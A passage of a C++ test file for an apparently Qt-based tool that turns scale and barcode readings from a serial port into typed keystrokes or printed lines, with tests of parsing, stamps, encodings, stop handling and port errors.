// SPDX-License-Identifier: GPL-3.0-or-later
// A run as the window and the headless runner make it: bytes from the
// simulated serial side go in; what the keyboard typed (recorded key events,
// read back through the key map), what was printed, the view's lines and
// the run's state come out.
#include "BrokerProcesses.h"
#include "DoctorFixture.h"
#include "QtPrinters.h"
#include "RunRecords.h"

#include "omvara/config/CodeSettings.h"
#include "omvara/config/Instrument.h"
#include "omvara/outputs/Keybot.h"
#include "omvara/outputs/keys/KeyCodes.h"
#include "omvara/outputs/keys/KeyInjectors.h"
#include "omvara/outputs/keys/PermissionWait.h"
#include "omvara/reception/WeightWorker.h"
#include "omvara/reception/WeightWorkerView.h"
#include "omvara/run/BrokerOutput.h"
#include "omvara/run/RecordFileOutput.h"
#include "omvara/run/Run.h"
#include "omvara/run/SharedOutputs.h"
#include "omvara/util/Interruption.h"
#include "omvara/util/ProcessProperties.h"
#include "portlink/SerialConfig.h"
#include "portlink/testing/ScopedNativeSide.h"
#include "portlink/testing/SimulatedNative.h"

#include <QCoreApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTimer>

#include <gtest/gtest.h>

#include <cstdio>
#include <mutex>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace std::chrono_literals;
using omvara::config::Config;
using omvara::outputs::keys::KeyEvent;
using omvara::outputs::keys::RecordingKeyInjector;
using omvara::run::OutputKind;
using omvara::run::RunState;
using Instrument = omvara::config::ConfigHelper::Instrument;
using KeyMap = omvara::config::ConfigHelper::KeyboardType::KeyMap;

namespace {

QCoreApplication &app()
{
    static int argc = 1;
    static char name[] = "omvara_run_tests";
    static char *argv[] = { name, nullptr };
    static QCoreApplication application(argc, argv);
    return application;
}

bool runUntil(const std::function<bool()> &condition, std::chrono::milliseconds timeout = 10s)
{
    QElapsedTimer timer;
    timer.start();
    while (!condition()) {
        if (timer.elapsed() > timeout.count())
            return false;
        QCoreApplication::processEvents(QEventLoop::AllEvents, 5);
    }
    return true;
}

// The text the recorded key events type: each chord (keys pressed until all
// are released again) read back through the key map, a character's own key
// as that character and Tab as "\t"; the terminator key (Enter) ends a value.
QStringList typedTexts(const std::vector<KeyEvent> &events, const KeyMap &keyMap)
{
    QMap<QList<qint32>, char32_t> chords;
    for (auto it = keyMap.cbegin(); it != keyMap.cend(); ++it)
        chords.insert(it.value(), it.key());
    QStringList texts;
    QString current;
    QList<qint32> chord;
    int down = 0;
    for (const KeyEvent &e : events) {
        if (e.kind == KeyEvent::Press) {
            chord.append(e.value);
            ++down;
        } else if (e.kind == KeyEvent::Release && --down == 0) {
            namespace vk = omvara::outputs::keys::vk;
            if (chord == QList<qint32> { run_records::Enter }) {
                texts.append(current);
                current.clear();
            } else if (chord.size() == 1 && vk::isCharacter(chord.front())) {
                const char32_t character = vk::characterOf(chord.front());
                current += QString::fromUcs4(&character, 1);
            } else if (chord == QList<qint32> { vk::Tab }) {
                current += u'\t';
            } else {
                current
                    += chords.contains(chord) ? QString::fromUcs4(&chords[chord], 1) : QStringLiteral("?");
            }
            chord.clear();
        }
    }
    if (!current.isEmpty())
        texts.append(current + QStringLiteral("<cut>"));
    return texts;
}

// The view of the tests: everything the run reports, kept.
class RecordingRunView : public omvara::run::RunObserver, public omvara::run::RunQuestions
{
public:
    void logEvent(const QString &message) override { add(message, false); }
    void logImportantEvent(const QString &message) override { add(message, true); }
    void lineReceived(const omvara::processing::DataLine &line) override { lines.push_back(line); }
    void lineSettled(const omvara::run::RunLine &line) override { settled.push_back(line); }
    void stateChanged(const RunState &state) override { states.push_back(state); }

    bool goOnWithoutKeyboard(const QString &) override { return true; }
    void capsLockOn() override { }
    void soundFailed(const QString &) override { }
    void deviceWarning(const QString &, const QString &message) override { add(message, true); }
    void cannotStart(omvara::run::StartFailure, const QString &message) override
    {
        cannotStartWith = message;
    }
    bool goOnWithoutRecord(const QString &reason) override
    {
        recordQuestion = reason;
        return startWithoutRecord;
    }

    void clear()
    {
        std::lock_guard lock(m_mutex);
        m_important.clear();
        m_events.clear();
        lines.clear();
        settled.clear();
        states.clear();
        cannotStartWith.clear();
        recordQuestion.clear();
    }
    QStringList important() const
    {
        std::lock_guard lock(m_mutex);
        return m_important;
    }
    QStringList events() const
    {
        std::lock_guard lock(m_mutex);
        return m_events;
    }
    QStringList shownValues() const
    {
        QStringList values;
        for (const auto &line : lines)
            values.append(line.getProcessedData());
        return values;
    }

    std::vector<omvara::processing::DataLine> lines;
    std::vector<omvara::run::RunLine> settled;
    std::vector<RunState> states;
    QString cannotStartWith;
    QString recordQuestion; // why the record file could not be opened at Start
    bool startWithoutRecord = false; // the answer

private:
    void add(const QString &text, bool important)
    {
        std::lock_guard lock(m_mutex);
        m_events.append(text);
        if (important)
            m_important.append(text);
    }
    mutable std::mutex m_mutex;
    QStringList m_important;
    QStringList m_events; // all of them
};

class RunTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        app();
        run_records::setProgramProperties();
        port = &native->addPort(QStringLiteral("COM5"));
        port->setNoModemLines(true);
    }

    // A run on COM5 typing into a recorder; with `keyTime` each key event takes that long.
    std::unique_ptr<omvara::run::Run> startRun(
        Config config, bool print = false, std::chrono::milliseconds keyTime = 0ms)
    {
        config.setPort(QStringLiteral("COM5"));
        config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
        omvara::run::Run::Options options;
        options.print = print;
        options.printTo = printed;
        options.sound = false;
        options.ownWindowFocused = ownFocus;
        options.sessionLocale = sessionLocale;
        options.stampClock = stampClock;
        options.makers.keybot = [this, keyTime](omvara::reception::WeightWorkerView *view, const Config &c) {
            auto recording = std::make_unique<RecordingKeyInjector>();
            keys = recording.get();
            if (keyTime > 0ms)
                keys->onEvent([keyTime](const KeyEvent &) { std::this_thread::sleep_for(keyTime); });
            return omvara::outputs::Keybot::fromConfig(view, c, std::move(recording));
        };
        auto run = std::make_unique<omvara::run::Run>(std::move(config), std::move(options), view, view);
        EXPECT_TRUE(run->start()) << qPrintable(view.cannotStartWith);
        return run;
    }

    // Read through a descriptor of its own: moving the file position of
    // `printed` while the run prints would make it print over earlier lines.
    QStringList printedLines()
    {
        std::fflush(printed);
        QFile file(QStringLiteral("/proc/self/fd/%1").arg(fileno(printed)));
        if (!file.open(QIODevice::ReadOnly))
            return { QStringLiteral("<cannot read the printed lines>") };
        return QString::fromUtf8(file.readAll()).split(u'\n', Qt::SkipEmptyParts);
    }

    std::shared_ptr<portlink::testing::SimulatedNative> native
        = std::make_shared<portlink::testing::SimulatedNative>();
    portlink::testing::ScopedNativeSide side { native };
    portlink::testing::SimulatedPort *port = nullptr;
    RecordingRunView view;
    RecordingKeyInjector *keys = nullptr;
    std::function<bool()> ownFocus; // the program's own window has the focus
    // The session's language: none known, unless a test sets one.
    omvara::run::SessionLocaleSources sessionLocale;
    std::function<QDateTime()> stampClock; // null: the local time now
    std::FILE *printed = std::tmpfile();

    void TearDown() override { std::fclose(printed); }
};

} // namespace

// Per instrument and settings: the values typed, the values printed and the
// lines the view shows are the same, in order; repeats are shown without a
// value and typed or printed once.
TEST_F(RunTest, bytesOfEachInstrument_typedAndPrintedAsProcessed_repeatsOnce)
{
    struct Case
    {
        const char *name;
        const Instrument &instrument;
        std::function<void(Config &)> settings;
        QByteArray sent;
        QStringList values;
    };
    const Case cases[] = {
        { "generic, negative and decimals", Instrument::GENERIC, [](Config &) {},
            "  12.30 g\r-0.5 g\rno value\r", { "12.30", "-0.5" } },
        { "Sartorius, 2 places", Instrument::SARTORIUS,
            [](Config &c) {
                c.setInputTerminator(10);
                c.setDecimalPlaces(QStringLiteral("2"));
            },
            "+    12.345 g  \r\n-      1.230 g  \r\n    High        \r\n", { "12.35", "-1.23" } },
        { "generic, times 1000, comma", Instrument::GENERIC,
            [](Config &c) {
                c.setMathOperation(omvara::config::ConfigHelper::MathOperation::MULTIPLY);
                c.setMathOperand(QStringLiteral("1000"));
                c.setDecimalSeparator(omvara::config::ConfigHelper::DecimalSeparator::COMMA);
            },
            "0.0125 kg\r", { "12,5000" } }, // exact arithmetic keeps the reading's decimal places
        { "barcode reader, letters and digits", Instrument::BARCODE_ALPHA, [](Config &) {}, "LOT42X\rA1 B2\r",
            { "LOT42X", "A1" } },
        { "repeats suppressed", Instrument::GENERIC,
            [](Config &c) {
                c.setIgnoreDuplicates(true);
                c.setIgnoreTimeLimit(QString());
                c.setIgnoreDifference(QString());
            },
            "12.5 g\r12.5 g\r13 g\r12.5 g\r", { "12.5", "", "13", "12.5" } },
    };
    for (const Case &c : cases) {
        for (const bool print : { false, true }) {
            SCOPED_TRACE(std::string(c.name) + (print ? ", printed" : ", typed"));
            Config config = c.instrument.getDefaultConfig();
            config.setInstrument(&c.instrument);
            c.settings(config);
            view.clear();
            std::fclose(printed);
            printed = std::tmpfile();
            auto run = startRun(config.copyConfig(), print);
            port->feed(c.sent);
            QStringList delivered = c.values;
            delivered.removeAll(QString());
            const auto lines = size_t(c.sent.count(char(config.getInputTerminator())));
            ASSERT_TRUE(runUntil([&] { return view.lines.size() == lines; }));
            ASSERT_TRUE(runUntil([&] {
                if (print)
                    return printedLines().size() >= delivered.size();
                // Whole values only: one still being typed ends in "<cut>".
                const QStringList typed = typedTexts(keys->events(), run->keybot()->keyMap());
                return typed.size() >= delivered.size()
                    && (typed.isEmpty() || !typed.last().endsWith(QStringLiteral("<cut>")));
            }));
            QStringList shown = view.shownValues();
            shown.removeAll(QString()); // lines without a value (a "High" overload, a text that is no code)
            QStringList expectedShown = c.values;
            expectedShown.removeAll(QString());
            EXPECT_EQ(shown, expectedShown);
            if (print)
                EXPECT_EQ(printedLines(), delivered);
            else
                EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()), delivered);
            run->stop();
            ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
            EXPECT_EQ(run->state().end, RunState::End::Stopped);
            EXPECT_FALSE(port->isOpen());
        }
    }
}

// Printed values go out in batches of what the port delivers at once, yet
// none waits for a later line: each single record is printed while nothing
// follows it. A flood longer than a batch comes out whole, in order, once,
// and reaches the view likewise.
TEST_F(RunTest, printedValues_noneWaitsForTheNextLine_aFloodWholeInOrderOnce)
{
    auto run = startRun(Instrument::GENERIC.getDefaultConfig(), true);
    for (int i = 1; i <= 3; ++i) {
        port->feed(run_records::records(i, i));
        ASSERT_TRUE(runUntil([&] { return printedLines().size() == i; })) << i;
    }
    port->feed(run_records::records(4, 3000));
    ASSERT_TRUE(runUntil([&] { return printedLines().size() >= 3000 && view.lines.size() >= 3000; }));
    EXPECT_EQ(printedLines(), run_records::numbers(1, 3000));
    EXPECT_EQ(view.lines.size(), 3000u);
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
}

// Stamps beside the value, each token at a fixed clock, typed and printed:
// between the start key and the value and between the value and the
// terminator key; {seq} counts the values that went out. Duplicate
// suppression and the settled-readings filter compare the values alone.
TEST_F(RunTest, stampsBesideTheValue_eachTokenAtAFixedClock_repeatsComparedWithoutThem)
{
    using omvara::run::LineStatus;
    struct Case
    {
        const char *name;
        const char *before;
        const char *after;
        std::function<void(Config &)> settings;
        QByteArray sent;
        QStringList typed;
    };
    const Case cases[] = {
        { "date and time", "{date} {time} ", "", [](Config &) {}, "12.5 g\r",
            { "2026-03-07 09:05:03 12.5" } },
        { "their patterns", "{date:dd.MM.yy}-{time:HH:mm} ", "", [](Config &) {}, "7 g\r",
            { "07.03.26-09:05 7" } },
        { "seq and port, after", "", " {seq} {port}", [](Config &) {}, "1 g\r---\r2 g\r",
            { "1 1 COM5", "2 2 COM5" } },
        { "braces", "{{", "} {{seq}", [](Config &) {}, "3 g\r", { "{3} {seq}" } },
        { "repeats suppressed", "", " {seq}",
            [](Config &c) {
                c.setIgnoreDuplicates(true);
                c.setIgnoreTimeLimit(QString());
                c.setIgnoreDifference(QString());
            },
            "5 g\r5 g\r6 g\r6 g\r5 g\r", { "5 1", "6 2", "5 3" } },
        { "settled readings", "{time} ", "", [](Config &c) { c.setStableReadings(2); }, "5 g\r5 g\r5 g\r",
            { "09:05:03 5" } },
    };
    stampClock = [] { return QDateTime(QDate(2026, 3, 7), QTime(9, 5, 3)); };
    for (const Case &c : cases) {
        for (const bool print : { false, true }) {
            SCOPED_TRACE(std::string(c.name) + (print ? ", printed" : ", typed"));
            view.clear();
            std::fclose(printed);
            printed = std::tmpfile();
            Config config = Instrument::GENERIC.getDefaultConfig();
            config.setStampBefore(QString::fromUtf8(c.before));
            config.setStampAfter(QString::fromUtf8(c.after));
            config.setStartWith(omvara::config::ConfigHelper::StartWith::TAB);
            c.settings(config);
            auto run = startRun(std::move(config), print);
            port->feed(c.sent);
            const auto lines = size_t(c.sent.count('\r'));
            ASSERT_TRUE(runUntil([&] { return view.settled.size() == lines; }));
            QStringList went;
            for (const auto &line : view.settled) {
                if (line.status == LineStatus::Typed || line.status == LineStatus::Printed) {
                    went.append(line.typed);
                    EXPECT_TRUE(line.typed.contains(line.value)) << qPrintable(line.typed);
                    EXPECT_NE(line.typed, line.value) << "the value stays without its stamps";
                }
            }
            EXPECT_EQ(went, c.typed);
            if (print) {
                EXPECT_EQ(printedLines(), c.typed);
            } else {
                // Each value: Tab, the stamps and the value, Enter.
                KeyMap both = run->keybot()->stampKeyMap();
                both.insert(run->keybot()->keyMap());
                both.insert(U'\t', { run_records::Tab });
                QStringList expected;
                for (const QString &typed : c.typed)
                    expected.append(u'\t' + typed);
                EXPECT_EQ(typedTexts(keys->events(), both), expected);
            }
            run->stop();
            ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
        }
    }
}

// Codes as they are: every printable character, the reader's encoding, the
// GS1 separators as the settings say and a symbology identifier removed;
// the code reader that knows only letters, digits and a few signs types what
// it typed before. The recorder types every character as itself.
TEST_F(RunTest, codes_everyCharacterEncodingAndSeparators_typedAsTheSettingsSay)
{
    using omvara::config::ControlCharacters;
    using omvara::config::ControlKey;
    using omvara::config::InputEncoding;
    struct Case
    {
        const char *name;
        const Instrument &instrument;
        std::function<void(Config &)> settings;
        QByteArray sent;
        QStringList typed;
        QString reported; // in an emphasised log entry; empty: none at all
    };
    // A GS1-128 element string: GTIN, batch, serial number, GS after each
    // field of variable length.
    const QByteArray gs1 = "]C10109501101530003\x1d"
                           "10AB-12\x1d"
                           "21X7\r";
    const auto separators = [](const ControlCharacters &action) {
        return [&action](Config &c) {
            c.setControlCharacters(action);
            c.setControlKey(ControlKey::TAB);
        };
    };
    const Case cases[] = {
        { "GS left out (the default)", Instrument::BARCODE_ALL, [](Config &) {}, gs1,
            { "]C1010950110153000310AB-1221X7" }, {} },
        { "GS as Tab", Instrument::BARCODE_ALL, separators(ControlCharacters::KEY), gs1,
            { "]C10109501101530003\t10AB-12\t21X7" }, {} },
        { "GS as a text", Instrument::BARCODE_ALL, separators(ControlCharacters::TEXT), gs1,
            { "]C10109501101530003<GS>10AB-12<GS>21X7" }, {} },
        { "GS as itself", Instrument::BARCODE_ALL, separators(ControlCharacters::CHARACTER), gs1,
            { "]C10109501101530003\x1d"
              "10AB-12\x1d"
              "21X7" },
            {} },
        { "symbology identifier removed", Instrument::BARCODE_ALL,
            [](Config &c) { c.setRemoveSymbologyId(true); }, gs1 + "]Q3x]d2\r",
            { "0109501101530003"
              "10AB-12"
              "21X7",
                "x]d2" },
            {} },
        { "signs and Latin-1 letters", Instrument::BARCODE_ALL, [](Config &) {},
            "Lot_7@#%&(x) [y]{z}<=?!>\"';~^|\\`$ \xb5\xb0\xe9\r",
            { QString::fromUtf8("Lot_7@#%&(x) [y]{z}<=?!>\"';~^|\\`$ \u00b5\u00b0\u00e9") }, {} },
        { "UTF-8, and a line that is not", Instrument::BARCODE_ALL,
            [](Config &c) { c.setInputEncoding(InputEncoding::UTF_8); },
            "\xe2\x82\xac \xce\xa9 \xe4\xb8\xad\rok\xe2\x82(\rnext\r",
            { QString::fromUtf8("\u20ac \u03a9 \u4e2d"), "next" },
            "The line is not valid UTF-8: the byte <226> at position 3" },
        { "another text instrument, every character", Instrument::BARCODE_ALPHA,
            [](Config &c) {
                c.setTypeEveryCharacter(true);
                c.setCustomRegEx(QStringLiteral("(.+)"));
            },
            "a_b@C\r", { "a_b@C" }, {} },
        { "letters, digits and signs as before", Instrument::BARCODE_ALPHA_COMPLETE, [](Config &) {},
            gs1 + "a/b-c_d\r", { "C10109501101530003", "a/b-c" }, {} },
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        Config config = c.instrument.getDefaultConfig();
        config.setInstrument(&c.instrument);
        c.settings(config);
        view.clear();
        auto run = startRun(config.copyConfig());
        port->feed(c.sent);
        ASSERT_TRUE(runUntil([&] {
            const QStringList typed = typedTexts(keys->events(), run->keybot()->keyMap());
            return typed.size() >= c.typed.size()
                && (typed.isEmpty() || !typed.last().endsWith(QStringLiteral("<cut>")));
        }));
        EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()), c.typed);
        if (c.reported.isEmpty()) {
            EXPECT_EQ(view.important(), QStringList());
        } else {
            EXPECT_TRUE(view.important().join(u'\n').contains(c.reported))
                << qPrintable(view.important().join(u'\n'));
        }
        run->stop();
        ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    }
}

// A character the desktop's layout lacks is left out and reported; the rest
// and the terminator key go out. What arrived is not the value, so the
// record calls it neither typed nor not typed.
TEST_F(RunTest, aCharacterTheKeyboardLacks_valueIsIncomplete_withWhatWentOut)
{
    using omvara::run::LineStatus;
    Config config = Instrument::BARCODE_ALL.getDefaultConfig();
    config.setInstrument(&Instrument::BARCODE_ALL);
    config.setInputEncoding(omvara::config::InputEncoding::UTF_8);
    auto run = startRun(config.copyConfig());
    keys->lacking(U'\u4e2d');
    port->feed("A\xe4\xb8\xad"
               "B\rC\r");
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 2; }));
    EXPECT_EQ(view.settled[0].status, LineStatus::Incomplete);
    EXPECT_EQ(omvara::run::statusText(view.settled[0].status), QStringLiteral("incomplete"));
    EXPECT_EQ(view.settled[0].typed, QStringLiteral("AB"));
    EXPECT_TRUE(view.settled[0].note.contains(QStringLiteral("\"AB\""))) << qPrintable(view.settled[0].note);
    EXPECT_TRUE(view.important().join(u'\n').contains(QStringLiteral("<20013>")))
        << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(view.settled[1].status, LineStatus::Typed);
    EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()), (QStringList { "AB", "C" }));
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
}

// Stop while the keyboard is behind: the value being typed is finished, the
// waiting ones are dropped and reported with their number, nothing is typed
// twice; the run's state tells the way from Running to Ended by Stop.
TEST_F(RunTest, stopWithABacklog_finishesTheCurrentValue_dropsAndReportsTheRest)
{
    Config config = Instrument::GENERIC.getDefaultConfig();
    auto run = startRun(std::move(config), false, 1ms);
    port->feed(run_records::records(1, 40));
    ASSERT_TRUE(runUntil([&] { return view.lines.size() == 40; }));
    ASSERT_TRUE(runUntil([&] { return !typedTexts(keys->events(), run->keybot()->keyMap()).isEmpty(); }));
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    run->waitForOutputs();

    const QStringList typed = typedTexts(keys->events(), run->keybot()->keyMap());
    ASSERT_LT(typed.size(), 40) << "the keyboard was not behind";
    EXPECT_EQ(typed, run_records::numbers(1, int(typed.size())));
    EXPECT_EQ(run_records::droppedValues(view.important()), 40 - typed.size());
    // Every line is told once, in order: the typed ones, then the dropped ones.
    ASSERT_TRUE(runUntil([&] { return view.settled.size() == 40; }));
    for (qsizetype i = 0; i < 40; ++i) {
        EXPECT_EQ(view.settled[size_t(i)].count, i + 1);
        EXPECT_EQ(view.settled[size_t(i)].status,
            i < typed.size() ? omvara::run::LineStatus::Typed : omvara::run::LineStatus::NotTyped);
    }
    ASSERT_GE(view.states.size(), 2u);
    EXPECT_EQ(view.states.front().phase, RunState::Phase::Running);
    EXPECT_EQ(view.states.back().phase, RunState::Phase::Ended);
    EXPECT_EQ(view.states.back().end, RunState::End::Stopped);
    const RunState::Output *keyboard = run->state().output(OutputKind::Keyboard);
    ASSERT_NE(keyboard, nullptr);
    EXPECT_EQ(keyboard->detail, QStringLiteral("recording"));
}

// The device goes away: the run ends by itself with the reason, and the
// values it received are still typed (none dropped); a port that cannot be
// opened ends the start with the reason and no open port.
TEST_F(RunTest, deviceLostAndPortThatCannotOpen_endWithTheirReasons)
{
    Config config = Instrument::GENERIC.getDefaultConfig();
    auto run = startRun(std::move(config), false, 1ms);
    port->feed(run_records::records(1, 20));
    ASSERT_TRUE(runUntil([&] { return view.lines.size() == 20; }));
    port->unplug();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    EXPECT_EQ(run->state().end, RunState::End::DeviceLost);
    EXPECT_FALSE(run->state().reason.isEmpty());
    run->waitForOutputs();
    EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()), run_records::numbers(1, 20));
    EXPECT_EQ(run_records::droppedValues(view.important()), 0);

    port->replug();
    port->failOpen(1002);
    Config again = Instrument::GENERIC.getDefaultConfig();
    again.setPort(QStringLiteral("COM5"));
    omvara::run::Run::Options options;
    options.print = true;
    options.printTo = printed;
    omvara::run::Run failing(std::move(again), options, view, view);
    EXPECT_FALSE(failing.start());
    EXPECT_EQ(failing.state().end, RunState::End::NotStarted);
    EXPECT_FALSE(view.cannotStartWith.isEmpty());
    EXPECT_EQ(failing.state().reason, view.cannotStartWith);
    EXPECT_FALSE(port->isOpen());

    // A line setting the driver refuses: named, with what the user can do.
    port->failOpen(0);
    struct Refusal
    {
        int code;
        std::function<void(Config &)> set;
        QString says;
    };
    using portlink::SerialConfig;
    const Refusal refusals[] = {
        { 1020, [](Config &c) { c.setBitRate(SerialConfig::BR_19200); },
            QStringLiteral("refused the bit rate 19200") },
        { 1021, [](Config &c) { c.setDataBits(SerialConfig::LN_7BITS); },
            QStringLiteral("refused 7 data bits") },
        { 1022, [](Config &c) { c.setParity(SerialConfig::PY_ODD); }, QStringLiteral("refused odd parity") },
        { 1023, [](Config &c) { c.setStopBits(SerialConfig::ST_2BITS); },
            QStringLiteral("refused 2 stop bits") },
    };
    for (const Refusal &r : refusals) {
        SCOPED_TRACE(r.code);
        port->failConfigure(r.code, 1);
        Config refused = Instrument::GENERIC.getDefaultConfig();
        refused.setPort(QStringLiteral("COM5"));
        r.set(refused);
        omvara::run::Run run(std::move(refused), options, view, view);
        EXPECT_FALSE(run.start());
        EXPECT_TRUE(view.cannotStartWith.startsWith(QStringLiteral("Configure failed: %1. ").arg(r.code)))
            << qPrintable(view.cannotStartWith);
        EXPECT_TRUE(view.cannotStartWith.contains(QStringLiteral("The driver of COM5 ") + r.says))
            << qPrintable(view.cannotStartWith);
        EXPECT_TRUE(
            view.cannotStartWith.contains(QStringLiteral("choose line settings that the port supports")));
        EXPECT_FALSE(port->isOpen());
    }
}

// An adapter that brltty claims vanishes seconds after it was opened: the log
// says who took it and how to find the mend, with reconnect on or off.
TEST_F(RunTest, anAdapterThatBrlttyTakes_isNamedWhenItVanishesSoonAfterTheOpen)
{
    QTemporaryDir root;
    auto system = std::make_shared<doctor_test::FixtureSystem>(root.path());
    system->adapter(QStringLiteral("ttyUSB0"), QStringLiteral("1a86"), QStringLiteral("7523"),
        QStringLiteral("ch341-uart"));
    system->file(QStringLiteral("/usr/bin/brltty"));
    system->file(QStringLiteral("/usr/lib/udev/rules.d/85-brltty.rules"),
        "ENV{PRODUCT}==\"1a86/7523/*\", ENV{BRLTTY_BRAILLE_DRIVER}=\"bm\", GOTO=\"brltty_usb_run\"\n");
    auto &adapter = native->addPort(QStringLiteral("/dev/ttyUSB0"));
    adapter.setNoModemLines(true);
    for (const bool reconnect : { false, true }) {
        SCOPED_TRACE(reconnect ? "reconnect" : "no reconnect");
        view.clear();
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setPort(QStringLiteral("/dev/ttyUSB0"));
        config.setReconnect(reconnect);
        omvara::run::Run::Options options;
        options.print = true;
        options.printTo = printed;
        options.sound = false;
        options.system = system;
        omvara::run::Run run(std::move(config), std::move(options), view, view);
        ASSERT_TRUE(run.start()) << qPrintable(view.cannotStartWith);
        adapter.unplug();
        const auto told = [&] {
            for (const QString &line : view.important())
                if (line.contains(QStringLiteral("brltty")))
                    return true;
            return false;
        };
        ASSERT_TRUE(runUntil(told)) << view.important().join('\n').toStdString();
        const QStringList important = view.important();
        const QString line = *std::find_if(important.begin(), important.end(),
            [](const QString &l) { return l.contains(QStringLiteral("brltty")); });
        EXPECT_TRUE(line.contains(QStringLiteral("omvara --doctor /dev/ttyUSB0"))) << line.toStdString();
        EXPECT_TRUE(line.contains(QStringLiteral("1a86:7523"))) << line.toStdString();
        run.stop();
        ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
        adapter.replug();
    }
}

// Where the desktop asks permission to type (the portal's dialog), the
// keyboard starts on a thread of its own: the state and the log say that the
// run waits, with the runner's limit, while the event thread goes on; the
// answer starts the run; Stop ends the wait without opening the port.
TEST_F(RunTest, permissionToType_waitShownWhileTheEventThreadGoesOn_answerStarts_stopEndsTheWait)
{
    namespace kb = omvara::outputs::keys;
    omvara::util::ProcessProperties::set(kb::KeyInjectors::propertyName(), QStringLiteral("portal"));
    for (const bool answered : { true, false }) {
        SCOPED_TRACE(answered ? "answered" : "stopped");
        view.clear();
        std::atomic<bool> answer { false };
        std::chrono::milliseconds limitSeen { 0 };
        omvara::run::Run::Options options;
        options.sound = false;
        options.permissionWait = 2min;
        options.makers.keybot = [&](omvara::reception::WeightWorkerView *v, const Config &c) {
            limitSeen = kb::PermissionWait::limit();
            kb::PermissionWait::waiting(QStringLiteral("answer the desktop's dialog"));
            while (!answer)
                omvara::util::Interruption::sleep(5ms); // Stop interrupts it
            auto recording = std::make_unique<RecordingKeyInjector>();
            keys = recording.get();
            return omvara::outputs::Keybot::fromConfig(v, c, std::move(recording));
        };
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setPort(QStringLiteral("COM5"));
        config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
        omvara::run::Run run(std::move(config), std::move(options), view, view);
        bool waitShown = false;
        QTimer poll;
        QObject::connect(&poll, &QTimer::timeout, [&] {
            if (run.state().phase != RunState::Phase::Starting
                || !run.state().reason.contains("Waiting for permission"))
                return;
            waitShown = true;
            poll.stop();
            if (answered)
                answer = true;
            else
                run.stop();
        });
        poll.start(10);
        EXPECT_EQ(run.start(), answered);
        EXPECT_TRUE(waitShown);
        EXPECT_EQ(limitSeen, 2min);
        EXPECT_TRUE(view.important().contains(
            QStringLiteral("Waiting for permission to type: answer the desktop's dialog (at most 2 min).")))
            << qPrintable(view.important().join('\n'));
        if (answered) {
            EXPECT_TRUE(run.state().reason.isEmpty()) << qPrintable(run.state().reason);
            EXPECT_TRUE(port->isOpen());
            port->feed(run_records::records(1, 3));
            EXPECT_TRUE(runUntil([&] {
                return typedTexts(keys->events(), run.keybot()->keyMap()) == run_records::numbers(1, 3);
            })) << qPrintable(typedTexts(keys->events(), run.keybot()->keyMap()).join(' '));
            run.stop();
            ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
        } else {
            EXPECT_EQ(run.state().end, RunState::End::Stopped);
            EXPECT_FALSE(port->isOpen());
            EXPECT_TRUE(view.cannotStartWith.isEmpty());
        }
    }
    omvara::util::ProcessProperties::reset();
}

namespace {

// A recording keyboard whose pauses really pass (and end at once when the
// keyboard thread is interrupted), as on a real display.
class PausingKeys : public RecordingKeyInjector
{
public:
    void pause(int milliseconds) override
    {
        RecordingKeyInjector::pause(milliseconds);
        KeyInjector::pause(milliseconds);
    }
};

} // namespace

// Stop while a value is being typed with a key delay: the value is finished
// with its pauses (slow applications lose keys typed faster) and the window
// is told the keyboard is finishing; a second Stop cuts it off at once,
// without its terminator key, and says so.
TEST_F(RunTest, stopWhileTyping_finishesTheValueWithItsPauses_secondStopCutsItOff)
{
    constexpr int Delay = 15;
    for (const bool twice : { false, true }) {
        SCOPED_TRACE(twice ? "stopped twice" : "stopped once");
        view.clear();
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setDelay(QString::number(Delay));
        config.setPort(QStringLiteral("COM5"));
        config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
        PausingKeys *pausing = nullptr;
        omvara::run::Run::Options options;
        options.sound = false;
        options.makers.keybot = [&pausing](omvara::reception::WeightWorkerView *v, const Config &c) {
            auto injector = std::make_unique<PausingKeys>();
            pausing = injector.get();
            return omvara::outputs::Keybot::fromConfig(v, c, std::move(injector));
        };
        omvara::run::Run run(std::move(config), options, view, view);
        ASSERT_TRUE(run.start());
        port->feed("123456789 g\r");
        ASSERT_TRUE(runUntil([&] { return !pausing->events().empty(); }));
        QElapsedTimer timer;
        timer.start();
        run.stop();
        if (twice) {
            ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
            run.stop();
        }
        run.waitForOutputs();
        const auto elapsed = timer.elapsed();
        const QStringList typed = typedTexts(pausing->events(), run.keybot()->keyMap());
        if (!twice) {
            EXPECT_EQ(typed, QStringList { "123456789" });
            // Nine characters and the terminator, a pause after each press and release.
            EXPECT_GE(elapsed, 19 * Delay - Delay * 2);
            ASSERT_TRUE(runUntil([&] {
                const RunState::Output *keyboard = run.state().output(OutputKind::Keyboard);
                return keyboard && keyboard->status == RunState::Output::Status::Ended;
            }));
            bool finishingSeen = false;
            for (const RunState &s : view.states)
                if (const RunState::Output *keyboard = s.output(OutputKind::Keyboard))
